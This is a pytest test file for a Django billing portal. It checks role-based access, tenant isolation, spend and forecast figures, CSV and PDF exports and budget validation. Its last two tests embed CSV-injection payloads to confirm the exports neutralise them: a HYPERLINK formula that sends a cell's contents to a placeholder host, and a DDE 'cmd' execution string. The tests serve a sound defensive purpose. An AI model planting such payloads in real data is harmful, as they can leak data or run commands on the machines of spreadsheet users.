"""Billing pages: who may open them (tenant isolation, roles), what they show, bad input."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from portal.billing import services
from portal.billing.models import Budget, Invoice
from portal.billing.periods import Month
from tests.billing.conftest import sync, timeline

MARCH = Month(2026, 3)


@pytest.fixture
def usage(team, make_instance, catalog, clock):
    """Two instances of Acme with usage in March 2026; the clock at March 15, 12:00."""
    trainer = make_instance(team.organization, name="trainer", instance_type=catalog.h100_8x)
    timeline(
        trainer,
        ("2026-03-02 08:00:00", "running"),
        ("2026-03-03 08:00:00", "stopping"),
        ("2026-03-03 08:00:30", "stopped"),
    )
    notebook = make_instance(team.organization, name="notebook", region=catalog.eu_west)
    timeline(notebook, ("2026-03-14 09:00:00", "running"))
    sync(trainer)
    sync(notebook)
    return {"trainer": trainer, "notebook": notebook}


@pytest.fixture
def invoice(team, usage, clock):
    clock.set("2026-04-01 02:00:00")
    issued = services.invoice_issue(organization=team.organization, month=MARCH)
    clock.set("2026-04-02 10:00:00")
    return issued


def urls(org: str, invoice_id: int) -> list[str]:
    return [
        reverse("billing:overview", args=[org]),
        reverse("billing:usage_csv", args=[org]),
        reverse("billing:budget", args=[org]),
        reverse("billing:invoices", args=[org]),
        reverse("billing:invoice", args=[org, invoice_id]),
        reverse("billing:invoice_pdf", args=[org, invoice_id]),
        reverse("billing:invoice_csv", args=[org, invoice_id]),
    ]


@pytest.mark.parametrize("role", ["owner", "admin", "billing"])
def test_owners_admins_and_billing_members_open_every_billing_page(team, invoice, client_for, role):
    client = client_for(team.by_role(role).user)
    for url in urls("acme", invoice.pk):
        assert client.get(url).status_code == 200, url


@pytest.mark.parametrize("role", ["member", "viewer"])
def test_members_and_viewers_are_refused_every_billing_page(team, invoice, client_for, role):
    client = client_for(team.by_role(role).user)
    for url in urls("acme", invoice.pk):
        assert client.get(url).status_code == 403, url
    assert client.post(reverse("billing:budget", args=["acme"]), {"amount": "5"}).status_code == 403
    assert not Budget.objects.exists()


def test_outsiders_get_404_for_every_billing_page(team, outsider, invoice, client_for):
    client = client_for(outsider.user)
    for url in urls("acme", invoice.pk):
        assert client.get(url).status_code == 404, url
    response = client.post(reverse("billing:budget", args=["acme"]), {"amount": "5"})
    assert response.status_code == 404
    assert not Budget.objects.exists()


def test_another_organizations_invoice_is_a_404_in_ones_own_organization(
    team, outsider, invoice, client_for
):
    """The rival's owner asks for Acme's invoice id under the rival's own slug."""
    client = client_for(outsider.user)
    for url in urls("rival", invoice.pk)[4:]:
        assert client.get(url).status_code == 404, url


def test_anonymous_visitors_are_sent_to_sign_in(client, team, invoice):
    response = client.get(reverse("billing:overview", args=["acme"]))
    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]


def test_the_billing_link_shows_for_billing_roles_only(team, client_for):
    for role, shown in [("owner", True), ("billing", True), ("member", False), ("viewer", False)]:
        page = client_for(team.by_role(role).user).get(reverse("dashboard_org", args=["acme"]))
        assert (reverse("billing:overview", args=["acme"]) in page.content.decode()) is shown, role


def test_overview_shows_spend_forecast_chart_and_breakdowns(team, usage, client_for, clock):
    response = client_for(team.billing.user).get(reverse("billing:overview", args=["acme"]))
    page = response.content.decode()
    o = response.context["o"]
    # trainer: 24 h and 30 s (stopping counts) × 19.92 = 478.246… → 478.25, then stopped
    # since Mar 3 08:00:30 at 0.16/h: 12 d 4 h − 30 s = 46.7186… → 46.72;
    # notebook: running since Mar 14 09:00 at 2.49/h, 27 h by Mar 15 12:00 = 67.23.
    assert [line.amount for line in o.lines] == [
        Decimal("67.23"),
        Decimal("478.25"),
        Decimal("46.72"),
    ]
    assert o.spend == Decimal("592.20")
    assert o.run_rate == Decimal("2.49") + Decimal("0.16")
    # 16 days and 12 hours to the end of March at 2.65/h
    assert o.forecast == o.spend + Decimal("2.65") * (16 * 24 + 12)
    assert f"${o.spend:,}" in page
    assert 'data-testid="spend-chart"' in page and "<svg" in page
    assert page.count('class="bar') == 31
    assert "trainer" in page and "notebook" in page
    assert [(line.instance_type_code, line.region_code, line.kind) for line in o.lines] == [
        ("gpu_1x_h100", "eu-west-1", "on_demand"),
        ("gpu_8x_h100", "us-east-1", "on_demand"),
        ("gpu_8x_h100", "us-east-1", "stopped"),
    ]


def test_instance_links_only_for_roles_that_may_open_instances(team, usage, client_for):
    link = reverse("instances:detail", args=["acme", usage["trainer"].pk])
    owner_page = client_for(team.owner.user).get(reverse("billing:overview", args=["acme"]))
    assert link in owner_page.content.decode()
    billing_page = client_for(team.billing.user).get(reverse("billing:overview", args=["acme"]))
    assert link not in billing_page.content.decode()
    assert "trainer" in billing_page.content.decode()


def test_a_past_month_and_a_bad_month(team, usage, client_for):
    client = client_for(team.owner.user)
    response = client.get(reverse("billing:overview", args=["acme"]), {"month": "2026-02"})
    assert response.status_code == 200
    assert response.context["o"].spend == 0
    assert response.context["o"].forecast is None
    for bad in ["2026-13", "march", "2026-04", "9999-01"]:
        response = client.get(reverse("billing:overview", args=["acme"]), {"month": bad})
        assert response.status_code == 404, bad


def test_usage_csv_lists_the_intervals_of_the_month(team, usage, client_for):
    response = client_for(team.owner.user).get(reverse("billing:usage_csv", args=["acme"]))
    assert response["Content-Type"] == "text/csv"
    assert 'filename="acme-usage-2026-03.csv"' in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][0] == "instance"
    body = rows[1:]
    assert {row[0] for row in body} == {"trainer", "notebook"}
    running = [row for row in body if row[0] == "trainer" and row[4] == "on_demand"]
    assert sum(int(row[7]) for row in running) == 86400 + 30  # stopping counts as running
    assert body[-1][6] == "ongoing"


def test_invoice_page_pdf_and_csv(team, invoice, client_for):
    client = client_for(team.owner.user)
    page = client.get(reverse("billing:invoice", args=["acme", invoice.pk])).content.decode()
    assert invoice.number in page
    pdf = client.get(reverse("billing:invoice_pdf", args=["acme", invoice.pk]))
    assert pdf["Content-Type"] == "application/pdf"
    assert pdf.content.startswith(b"%PDF")
    assert f'filename="{invoice.number}.pdf"' in pdf["Content-Disposition"]
    text = client.get(reverse("billing:invoice_csv", args=["acme", invoice.pk])).content.decode()
    rows = list(csv.reader(io.StringIO(text)))
    amounts = [Decimal(row[8]) for row in rows if row and row[0].isdigit()]
    assert sum(amounts) == invoice.subtotal
    assert ["amount due", str(invoice.amount_due)] in rows


def test_invoice_list_shows_status(team, invoice, client_for):
    page = client_for(team.owner.user).get(reverse("billing:invoices", args=["acme"]))
    assert invoice.number in page.content.decode()
    assert "Open" in page.content.decode()


@pytest.mark.parametrize(
    "amount, message",
    [
        ("-100", "The budget cannot be negative."),
        ("lots", "The budget must be a number, like 250.00."),
        ("0", "The budget must be more than zero."),
        ("12.345", "The budget can have at most two decimals (cents)."),
        ("1e400", "The budget is too large."),
        ("NaN", "The budget must be a number, like 250.00."),
    ],
)
def test_a_bad_budget_is_refused_with_a_message_and_changes_nothing(
    team, client_for, clock, amount, message
):
    Budget.objects.create(organization=team.organization, amount=Decimal("500"), updated_at=clock())
    response = client_for(team.owner.user).post(
        reverse("billing:budget", args=["acme"]), {"amount": amount, "hard_limit": "on"}
    )
    assert response.status_code == 400
    assert message in response.content.decode()
    budget = Budget.objects.get()
    assert (budget.amount, budget.hard_limit) == (Decimal("500.00"), False)


def test_setting_changing_and_removing_the_budget(team, client_for, clock):
    client = client_for(team.billing.user)
    url = reverse("billing:budget", args=["acme"])
    response = client.post(url, {"amount": "2500", "hard_limit": "on"}, follow=True)
    assert "The monthly budget is now $2,500.00 with a hard limit." in response.content.decode()
    budget = Budget.objects.get()
    assert (budget.amount, budget.hard_limit, budget.updated_by) == (
        Decimal("2500"),
        True,
        team.billing.user,
    )
    client.post(url, {"amount": " 3000.50 "})
    assert Budget.objects.get().amount == Decimal("3000.50")
    assert Budget.objects.get().hard_limit is False
    response = client.post(url, {"amount": ""}, follow=True)
    assert "The monthly budget is removed." in response.content.decode()
    assert not Budget.objects.exists()


def test_the_page_says_why_launches_are_blocked(team, invoice, client_for, clock):
    clock.set("2026-04-20 00:00:00")  # issued April 1, due April 15: overdue, not paused yet
    page = client_for(team.owner.user).get(reverse("billing:overview", args=["acme"]))
    assert "Launches are paused" not in page.content.decode()
    clock.set("2026-04-23 00:00:00")  # 8 days overdue: paused on the 7th
    page = client_for(team.owner.user).get(reverse("billing:overview", args=["acme"]))
    text = page.content.decode()
    assert text.count("Launches are paused.</strong>") == 1  # the banner, once
    assert f"Invoice {invoice.number}" in text
    assert Invoice.objects.count() == 1


def test_the_overview_makes_the_same_queries_for_2_and_40_instances(
    team, make_instance, client_for, clock
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client = client_for(team.owner.user)
    url = reverse("billing:overview", args=["acme"])

    def queries() -> int:
        client.get(url)  # warm the session
        with CaptureQueriesContext(connection) as captured:
            assert client.get(url).status_code == 200
        return len(captured)

    for n in range(2):
        instance = make_instance(team.organization)
        timeline(instance, (f"2026-03-0{n + 1} 10:00:00", "running"))
        sync(instance)
    few = queries()
    for _ in range(38):
        instance = make_instance(team.organization)
        timeline(instance, ("2026-03-05 10:00:00", "running"), ("2026-03-06 10:00:00", "stopped"))
        sync(instance)
    assert queries() == few


def test_the_page_lists_the_20_most_expensive_instances_and_the_csv_all_of_them(
    team, make_instance, client_for, clock
):
    from portal.billing import rating
    from portal.billing.clock import now

    names = []
    for n in range(25):  # (n + 1) × 10 minutes each: the most expensive has run longest
        instance = make_instance(team.organization, name=f"box-{n:02d}")
        end = f"2026-03-05 {(n + 1) // 6:02d}:{(n + 1) % 6 * 10:02d}:00"
        timeline(
            instance,
            ("2026-03-05 00:00:00", "running"),
            (end, "terminating"),
            (end, "terminated"),
        )
        sync(instance)
        names.append(instance.name)
    client = client_for(team.owner.user)
    response = client.get(reverse("billing:overview", args=["acme"]))
    o = response.context["o"]
    page = response.content.decode()
    assert [u.name for u in o.top_instances] == [f"box-{n:02d}" for n in range(24, 4, -1)]
    assert o.instance_count == 25 and o.more_instances == 5
    assert 'data-testid="more-instances"' in page and "5 more in the" in page
    assert "box-24" in page and "box-04" not in page
    # One scan for lines and days gives what the separate queries give.
    kwargs = {
        "organization_id": team.organization.pk,
        "start": MARCH.start,
        "end": MARCH.end,
        "now": now(),
    }
    assert o.lines == rating.lines(**kwargs)
    assert o.per_day == rating.per_day(**kwargs)
    assert o.spend == rating.total(o.lines)
    csv_response = client.get(reverse("billing:usage_csv", args=["acme"]))
    rows = list(csv.reader(io.StringIO(b"".join(csv_response.streaming_content).decode())))
    assert {row[0] for row in rows[1:]} == set(names)


def test_the_invoice_csv_writes_a_formula_in_the_name_or_a_reason_as_text(
    team, usage, clock, client_for
):
    """An organization name or a credit-note reason never runs in the customer's spreadsheet."""
    formula = '=HYPERLINK("http://x/?"&A1,"Pay")'
    team.organization.name = formula
    team.organization.save(update_fields=["name"])
    clock.set("2026-04-01 02:00:00")
    issued = services.invoice_issue(organization=team.organization, month=MARCH)
    services.credit_note_issue(invoice=issued, amount="1.00", reason="@SUM(A1:A9)", by=None)
    text = client_for(team.owner.user).get(reverse("billing:invoice_csv", args=["acme", issued.pk]))
    rows = list(csv.reader(io.StringIO(text.content.decode())))
    assert ["customer", "'" + formula] in rows
    [note] = [row for row in rows if row and row[0].startswith("credit note")]
    assert note[2] == "'@SUM(A1:A9)"
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "@", "\t", "\r")]


def test_the_usage_csv_writes_a_formula_in_an_instance_name_as_text(team, usage, client_for):
    usage["trainer"].name = "=cmd|' /C calc'!A0"
    usage["trainer"].save(update_fields=["name"])
    response = client_for(team.owner.user).get(reverse("billing:usage_csv", args=["acme"]))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert "'=cmd|' /C calc'!A0" in {row[0] for row in rows}
    assert "=cmd|' /C calc'!A0" not in {row[0] for row in rows}
